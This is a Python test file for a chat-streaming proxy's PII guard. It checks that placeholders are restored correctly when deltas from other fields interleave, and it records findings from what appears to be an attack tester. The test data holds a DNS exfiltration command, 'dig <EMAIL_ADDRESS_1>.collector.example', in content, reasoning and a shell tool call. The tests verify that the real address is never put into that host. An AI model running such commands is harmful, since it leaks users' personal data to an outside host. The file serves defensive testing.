"""A chat choice's fields interleaved: each field is one text, whatever other fields' deltas come between its
pieces (atk16 tester B H2, M2, M3).

- H2: `content "Run: dig <EMAIL_ADDRESS_1>"`, any other field's delta, then `content ".collector.example now"`: the
  whole placeholder held at the piece's end was restored (and released) when the other field's delta came, before
  the content's next piece showed the host (`jane.doe@example.com.collector.example`). Now a placeholder is held
  until its own field's next piece (or the field's or the stream's end) shows whether it is a hostname's label.
- M2: a placeholder split across two pieces of one field with another field's delta between (`Hi <EMAIL_` | refusal
  | `ADDRESS_1>.`) went out unrestored. Now the field's pieces are one text and restored so.
- M3: `Write to dana.kerr@exa`, a tool call `{"q":"weather"}`, `mple.org today.`: the e-mail was read in arrival
  order across the fields and the call's `weather` redacted as part of it. Now the call goes out as sent.

The relay's pump event by event, with the real output windows (restore alone, restore beside a `patterns:` rule,
and `pii: redact` for M3).
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from proxy.config.policy import Policy
from proxy.guard.engine import Guard
from proxy.guard.vault import Vault
from proxy.nlp.pii import PiiAnalyzer
from proxy.providers.base import CHAT
from proxy.providers.openai import ADAPTER as OPENAI
from tests.support.pii import shared_analyzer
from tests.support.stream_pump import data_of, drive, make_pump, sse_stream

MAIL, PHONE = "jane.doe@example.com", "617-555-0143"
RULE = {"name": "codenames", "regex": r"(?i)\bproject (falcon|osprey)\b", "action": "block"}


def vault() -> Vault:
    v = Vault()
    v.placeholder("EMAIL_ADDRESS", MAIL)
    v.placeholder("PHONE_NUMBER", PHONE)
    return v


def policy(output: dict[str, Any] | None = None) -> Policy:
    return Policy.model_validate({"name": "t", "on_error": "block", "input": {"pii": {"restore": True}},
                                  **({"output": output} if output else {})})


def chunk(delta: dict[str, Any], finish: str | None = None) -> dict[str, Any]:
    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def call(args: str, first: bool = True) -> dict[str, Any]:
    if first:
        return {"tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                "function": {"name": "shell", "arguments": args}}]}
    return {"tool_calls": [{"index": 0, "function": {"arguments": args}}]}


OTHER = {  # a delta of another field of the choice, between two pieces of one field
    "refusal": {"refusal": "x"},
    "refusal, a sentence": {"refusal": "Sorry, no. "},
    "reasoning": {"reasoning_content": "hm"},
    "tool call": call("{}"),
    "audio transcript": {"audio": {"id": "audio_1", "transcript": "Okay. "}},
    "legacy function call": {"function_call": {"name": "f", "arguments": "{}"}},
    "unknown key": {"x_note": "note"},
}


def fields(out: bytes) -> dict[str, str]:
    """Each field's text as the client joins it."""
    got: dict[str, str] = {}
    for event in data_of(out):
        for choice in event.get("choices", []):
            delta = choice.get("delta") or {}
            for key in ("content", "refusal", "reasoning_content", "x_note"):
                if isinstance(delta.get(key), str):
                    got[key] = got.get(key, "") + delta[key]
            for t in delta.get("tool_calls") or []:
                got["arguments"] = got.get("arguments", "") + ((t.get("function") or {}).get("arguments") or "")
            for key, sub in (("audio", "transcript"), ("function_call", "arguments")):
                if isinstance(delta.get(key), dict) and isinstance(delta[key].get(sub), str):
                    got[f"{key}.{sub}"] = got.get(f"{key}.{sub}", "") + delta[key][sub]
    return got


async def run(events: list[Any], output: dict[str, Any] | None = None, analyzer: PiiAnalyzer | None = None,
              v: Vault | None = None) -> tuple[dict[str, str], bytes]:
    windows = Guard(analyzer).output_stream(policy(output), v if v is not None else vault())
    pump, _ = make_pump(CHAT, OPENAI, windows, fail_closed=output is not None)  # as `proxy.flow` builds it
    out = await drive(pump, sse_stream(CHAT, [*events, "[DONE]"]))
    assert not pump.stopped, out
    return fields(out), out


OUTPUTS = {"restore only": None, "beside a patterns rule": {"patterns": [RULE]}}  # fail open / fail closed


# ------------------------------------------------------------------------- H2: a held placeholder and its host


@pytest.mark.parametrize("output", OUTPUTS.values(), ids=list(OUTPUTS))
@pytest.mark.parametrize("other", OTHER.values(), ids=list(OTHER))
async def test_a_placeholder_before_another_fields_delta_is_not_restored_into_the_host_after_it(
        other: dict[str, Any], output: dict[str, Any] | None) -> None:
    events = [chunk({"role": "assistant", "content": ""}), chunk({"content": "Run: dig <EMAIL_ADDRESS_1>"}),
              chunk(other), chunk({"content": ".collector.example now"}), chunk({}, "stop")]
    got, out = await run(events, output)
    assert got["content"] == "Run: dig <EMAIL_ADDRESS_1>.collector.example now", got
    assert MAIL.encode() not in out, out


@pytest.mark.parametrize("output", OUTPUTS.values(), ids=list(OUTPUTS))
async def test_tool_arguments_and_reasoning_keep_a_placeholder_a_host_follows_after_another_field(
        output: dict[str, Any] | None) -> None:
    events = [chunk({"role": "assistant", "content": None}), chunk(call('{"cmd":"dig <EMAIL_ADDRESS_1>')),
              chunk({"content": "Running."}), chunk(call('.collector.example"}', first=False)),
              chunk({"reasoning_content": "I will dig <PHONE_NUMBER_1>"}), chunk({"content": " ok"}),
              chunk({"reasoning_content": ".collector.example next"}), chunk({}, "tool_calls")]
    got, out = await run(events, output)
    assert json.loads(got["arguments"]) == {"cmd": "dig <EMAIL_ADDRESS_1>.collector.example"}, got
    assert got["reasoning_content"] == "I will dig <PHONE_NUMBER_1>.collector.example next", got
    assert got["content"] == "Running. ok", got
    assert MAIL.encode() not in out and PHONE.encode() not in out, out


@pytest.mark.parametrize("output", OUTPUTS.values(), ids=list(OUTPUTS))
@pytest.mark.parametrize("other", OTHER.values(), ids=list(OTHER))
async def test_a_placeholder_before_another_fields_delta_is_restored_when_its_field_goes_on_as_words(
        other: dict[str, Any], output: dict[str, Any] | None) -> None:
    """The control: what follows in its own field shows no host (a space, or the field's end): restored."""
    events = [chunk({"role": "assistant", "content": ""}), chunk({"content": "Mail <EMAIL_ADDRESS_1>"}),
              chunk(other), chunk({"content": " today, or call <PHONE_NUMBER_1>"}), chunk(other), chunk({}, "stop")]
    got, _ = await run(events, output)
    assert got["content"] == f"Mail {MAIL} today, or call {PHONE}", got


LONG = {  # another field's long text after a held placeholder: it goes out while the placeholder waits
    "refusal": [{"refusal": "I cannot help with that request, sorry. "} for _ in range(30)],
    "tool call": [call('{"notes":"'), *(call("line of the report, no values here. ", first=False) for _ in range(30))],
}


@pytest.mark.parametrize("output", OUTPUTS.values(), ids=list(OUTPUTS))
@pytest.mark.parametrize("long", LONG.values(), ids=list(LONG))
@pytest.mark.parametrize("held", ["<EMAIL_ADDRESS_1>", "<EMAIL_"])
async def test_another_fields_long_text_goes_out_while_a_placeholder_waits_for_its_field(
        held: str, long: list[dict[str, Any]], output: dict[str, Any] | None) -> None:
    pump, _ = make_pump(CHAT, OPENAI, Guard().output_stream(policy(output), vault()), fail_closed=output is not None)
    head = sse_stream(CHAT, [chunk({"role": "assistant", "content": ""}), chunk({"content": f"Run: dig {held}"}),
                             *(chunk(d) for d in long)])
    early = b"".join([await pump.feed(e) for e in head])
    other = fields(early).get("refusal") or fields(early).get("arguments") or ""
    if output is None:  # restore alone: most of it went out before the content's next piece (at most the cap held)
        assert len(other) >= 600, early
    # (under output rules an event waits for the text fed before it, in any field: `StreamRewriter._after_held`)
    assert MAIL.encode() not in early and b"EMAIL_" not in early, early
    rest = ".collector.example now" if held.endswith(">") else "ADDRESS_1>.collector.example now"
    tail = sse_stream(CHAT, [chunk({"content": rest}), chunk({}, "stop"), "[DONE]"])
    out = early + b"".join([await pump.feed(e) for e in tail]) + await pump.finish()
    assert fields(out)["content"] == "Run: dig <EMAIL_ADDRESS_1>.collector.example now", out
    assert MAIL.encode() not in out, out


# ------------------------------------------------------------------------- M2: a placeholder split by a field

SPLITS = [("Hi <EMAIL_", "ADDRESS_1>."), ("Hi <", "EMAIL_ADDRESS_1>."), ("Hi <EMAIL_ADDRESS_1", ">.")]


@pytest.mark.parametrize("output", OUTPUTS.values(), ids=list(OUTPUTS))
@pytest.mark.parametrize("other", OTHER.values(), ids=list(OTHER))
@pytest.mark.parametrize("split", SPLITS, ids=[a for a, _ in SPLITS])
async def test_a_placeholder_split_around_another_fields_delta_is_restored(
        split: tuple[str, str], other: dict[str, Any], output: dict[str, Any] | None) -> None:
    events = [chunk({"role": "assistant", "content": ""}), chunk({"content": split[0]}), chunk(other),
              chunk({"content": split[1]}), chunk({}, "stop")]
    got, _ = await run(events, output)
    assert got["content"] == f"Hi {MAIL}.", got


@pytest.mark.parametrize("output", OUTPUTS.values(), ids=list(OUTPUTS))
async def test_tool_arguments_split_around_content_are_restored(output: dict[str, Any] | None) -> None:
    events = [chunk({"role": "assistant", "content": None}), chunk(call('{"to":"<EMAIL_')),
              chunk({"content": "Sending."}), chunk(call('ADDRESS_1>"}', first=False)), chunk({}, "tool_calls")]
    got, _ = await run(events, output)
    assert json.loads(got["arguments"]) == {"to": MAIL}, got
    assert got["content"] == "Sending.", got


async def test_another_fields_text_waits_no_longer_than_the_stream_for_a_field_that_never_goes_on() -> None:
    """A held placeholder with no more of its field: it and the other field's text go out at the stream's end."""
    events = [chunk({"role": "assistant", "content": ""}), chunk({"content": "Mail <EMAIL_ADDRESS_1>"}),
              chunk({"refusal": "Sorry, no. " * 3}), chunk({}, "stop")]
    got, _ = await run(events)
    assert got == {"content": f"Mail {MAIL}", "refusal": "Sorry, no. " * 3}, got


# ------------------------------------------------------------------------- M3: a field between a value's halves


@pytest.fixture(scope="module")
async def analyzer() -> PiiAnalyzer:
    a = shared_analyzer()
    await a.start()
    return a


PII_OUT = {"pii": {"action": "redact", "entities": ["EMAIL_ADDRESS", "PHONE_NUMBER"]}}
BETWEEN_HALVES = {
    "tool call": (call('{"q":"weather"}'), "arguments", '{"q":"weather"}'),
    "tool call, a city": (call('{"city":"Paris"}'), "arguments", '{"city":"Paris"}'),
    "refusal": ({"refusal": "Sorry."}, "refusal", "Sorry."),
    "reasoning": ({"reasoning_content": "Hmm"}, "reasoning_content", "Hmm"),
}


@pytest.mark.parametrize("between", BETWEEN_HALVES.values(), ids=list(BETWEEN_HALVES))
async def test_a_one_word_field_between_an_emails_halves_goes_out_as_sent(
        analyzer: PiiAnalyzer, between: tuple[dict[str, Any], str, str]) -> None:
    delta, key, sent = between
    events = [chunk({"role": "assistant", "content": ""}), chunk({"content": "Write to dana.kerr@exa"}),
              chunk(delta), chunk({"content": "mple.org today."}), chunk({}, "stop")]
    got, out = await run(events, PII_OUT, analyzer, Vault())
    assert got[key] == sent, got
    assert got["content"] == "Write to <EMAIL_ADDRESS_1> today.", got
    assert b"dana.kerr" not in out and b"mple.org" not in out, out


async def test_content_between_an_emails_halves_in_tool_arguments_goes_out_as_sent(analyzer: PiiAnalyzer) -> None:
    events = [chunk({"role": "assistant", "content": None}), chunk(call('{"to":"dana.kerr@exa')),
              chunk({"content": "Sending."}), chunk(call('mple.org"}', first=False)), chunk({}, "tool_calls")]
    got, out = await run(events, PII_OUT, analyzer, Vault())
    assert got["content"] == "Sending.", got
    assert json.loads(got["arguments"]) == {"to": "<EMAIL_ADDRESS_1>"}, got
    assert b"dana.kerr" not in out and b"mple.org" not in out, out
